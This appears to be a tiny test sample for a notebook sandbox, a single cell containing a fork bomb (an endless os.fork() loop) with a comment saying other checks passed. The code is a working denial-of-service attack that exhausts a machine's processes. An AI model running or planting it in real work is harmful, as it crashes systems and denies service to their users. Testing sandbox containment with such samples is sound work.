# Forks for ever while cells run.
# verdict: others passed
# %%
import os

while True:
    os.fork()
